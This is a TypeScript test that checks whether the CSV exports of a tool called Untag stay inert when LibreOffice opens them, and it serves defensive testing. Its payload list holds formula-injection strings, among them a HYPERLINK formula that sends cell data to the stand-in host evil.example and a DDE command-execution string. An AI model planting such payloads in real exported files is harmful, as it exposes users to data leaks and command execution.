import { spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { basename, join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { BETWEEN_NAMES, defused, type Separator, tableLine } from '../../src/shared/spreadsheet-line.ts';

/**
 * Opens what Untag exports in a real LibreOffice, and fails if one hostile cell became a formula, moved or changed. A
 * table without Untag's protection is opened as well: if LibreOffice evaluates none of it, this test proves nothing.
 */
const SEPARATORS: readonly Separator[] = [',', ';', '\t'];
const BOM = '\uFEFF';
const OUTCOME = 'Removed';
const PROGRAM = 'soffice';

/** 20 payloads behind 10 prefixes. */
const PAYLOADS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1;1)',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '=HYPERLINK("http://evil.example/?"&A1,"x")',
  "=cmd|'/C calc'!A0",
  '=6*7";=6*7;"',
  '"=6*7"',
  '";=6*7;"',
  "'=6*7",
  'a;=6*7',
  'a,=6*7',
  'a\t=6*7',
  'a|=6*7',
  'line\n=6*7',
  'line\r\n=6*7;=6*7',
];
const BEGINNINGS = ['', ' ', '\u00a0', '\u3000', '\t', '\n', '\r\n', '\u200b', '\ufeff', 'Acme; '];
const HOSTILE = BEGINNINGS.flatMap((beginning) => PAYLOADS.map((payload) => beginning + payload));

interface Cell {
  readonly value: string;
  readonly isFormula: boolean;
}

const folder = mkdtempSync(join(tmpdir(), 'untag-spreadsheet-'));
const faults: string[] = [];
try {
  const careless = opened('careless', ',', `id,=1+1,${OUTCOME}\n`);
  if (!careless.flat().some(({ isFormula }) => isFormula))
    faults.push('LibreOffice made no formula of a cell that is one: this test cannot fail.');
  for (const separator of SEPARATORS) check(separator);
} finally {
  rmSync(folder, { recursive: true, force: true });
}
for (const fault of faults.slice(0, 20)) console.error(fault);
console.log(`${HOSTILE.length} hostile cells under , ; and tab: ${faults.length} faults`);
process.exitCode = faults.length === 0 ? 0 : 1;

function check(separator: Separator): void {
  const rows = HOSTILE.map((cell, n) => [`zcrm_${n}`, cell, `Prime${BETWEEN_NAMES}${cell}`, OUTCOME]);
  const text = BOM + rows.map((row) => `${tableLine(row, separator)}\r\n`).join('');
  const found = opened(`export-${SEPARATORS.indexOf(separator)}`, separator, text);
  if (found.length !== rows.length)
    faults.push(`${JSON.stringify(separator)}: ${rows.length} rows became ${found.length}`);
  for (const [n, row] of rows.entries()) {
    const cells = found[n] ?? [];
    const where = `${JSON.stringify(separator)}, ${JSON.stringify(HOSTILE[n])}`;
    if (cells.some(({ isFormula }) => isFormula)) faults.push(`${where}: became a formula`);
    if (cells.length !== row.length) faults.push(`${where}: ${row.length} cells became ${cells.length}`);
    for (const [place, value] of row.entries())
      if (visible(cells[place]?.value ?? '') !== visible(defused(value)))
        faults.push(`${where}: cell ${place} became ${JSON.stringify(cells[place]?.value)}`);
  }
}

/** A file as LibreOffice reads it, formulas evaluated. Source: LibreOffice help, filter options for CSV. */
function opened(name: string, separator: Separator, text: string): Cell[][] {
  const file = join(folder, `${name}.csv`);
  writeFileSync(file, text);
  const options = [separator.charCodeAt(0), 34, 76, 1, '', 0, false, true, false, false, false, 0, true].join(',');
  const profile = `-env:UserInstallation=${pathToFileURL(join(folder, 'profile')).href}`;
  const args = [profile, '--headless', '--convert-to', 'fods', `--infilter=CSV:${options}`, '--outdir', folder, file];
  const { status, stderr } = spawnSync(PROGRAM, args, { encoding: 'utf8', timeout: 300_000 });
  if (status !== 0) throw new Error(`${PROGRAM} could not convert ${basename(file)}: ${stderr}`);
  return cellsOf(readFileSync(join(folder, `${name}.fods`), 'utf8'));
}

/** The cells of the first sheet of a flat OpenDocument file, without the empty ones at the end of a row. */
function cellsOf(document: string): Cell[][] {
  const [sheet = ''] = /<table:table [\s\S]*?<\/table:table>/.exec(document) ?? [];
  return [...sheet.matchAll(/<table:table-row[^>]*>([\s\S]*?)<\/table:table-row>/g)]
    .map(([, row = '']) =>
      [...row.matchAll(/<table:table-cell([^>]*?)(?:\/>|>([\s\S]*?)<\/table:table-cell>)/g)].map(
        ([, attributes = '', content = '']) => ({
          value: [...content.matchAll(/<text:p[^>]*>([\s\S]*?)<\/text:p>/g)]
            .map(([, line = '']) => plain(line))
            .join('\n'),
          isFormula: attributes.includes('table:formula'),
        }),
      ),
    )
    .filter((row) => row.some(({ value }) => value !== ''));
}

function plain(xml: string): string {
  return xml
    .replaceAll('<text:tab/>', '\t')
    .replaceAll(/<text:s(?: text:c="(\d+)")?\/>/g, (_, count?: string) => ' '.repeat(Number(count ?? 1)))
    .replaceAll(/<[^>]*>/g, '')
    .replaceAll(/&#x([0-9a-f]+);/gi, (_, code: string) => String.fromCodePoint(parseInt(code, 16)))
    .replaceAll('&lt;', '<')
    .replaceAll('&gt;', '>')
    .replaceAll('&quot;', '"')
    .replaceAll('&apos;', "'")
    .replaceAll('&amp;', '&');
}

/**
 * The visible characters of a value. LibreOffice keeps white space in its own way, and drops tabs in a cell of several
 * lines.
 */
function visible(value: string): string {
  return value.replaceAll(/[\s\uFEFF\u200b]+/g, '');
}
